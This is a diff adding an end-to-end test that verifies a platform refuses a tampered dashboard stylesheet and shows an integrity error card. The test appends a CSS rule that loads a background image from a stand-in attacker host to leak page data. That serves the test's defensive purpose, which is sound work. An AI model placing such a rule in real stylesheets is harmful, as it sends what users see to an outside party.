@@ -162,6 +162,32 @@ def test_a_tampered_version_shows_an_error_card_while_the_rest_keeps_working(
         screenshot(page, "admin-users")
 
 
+def test_a_tampered_stylesheet_shows_an_error_card_instead_of_applying(
+    page: Page, platform: Platform, seeded: Seeded
+) -> None:
+    current = seeded.versions["dashboard"]
+    copy_version(platform, "dashboard", current, "1.6.0", "Team dashboard", "Team dashboard 1.6")
+    publish(platform, seeded.admin_token, "dashboard", "1.6.0")
+    stylesheet = platform.fragment_dirs["dashboard"] / "1.6.0" / "entry.css"
+    # What a compromised fragment host could serve: rules that leak what the page shows.
+    stylesheet.write_text(
+        stylesheet.read_text() + "\n[data-kpi] { background: url(//evil.example/leak); }\n"
+    )
+    with live_dashboard(platform, seeded, "1.6.0"):
+        sign_in(page)
+        card = page.get_by_role("alert").filter(has_text="could not be shown")
+        expect(card).to_contain_text("integrity")
+        expect(card).to_contain_text("entry.css")
+        expect(card).to_contain_text("Failure: integrity")
+        # Refused by the browser: neither applied in the fragment's root nor mounted.
+        applied = page.evaluate(
+            """() => [...document.querySelector('[data-fragment="dashboard"]').shadowRoot
+                       .styleSheets].map((sheet) => sheet.href)"""
+        )
+        assert applied == []
+        expect(page.locator("[data-kpi]")).to_have_count(0)
+
+
 def test_admin_reads_the_audit_log(page: Page, seeded: Seeded) -> None:
     sign_in(page)
     page.goto("/admin/audit")
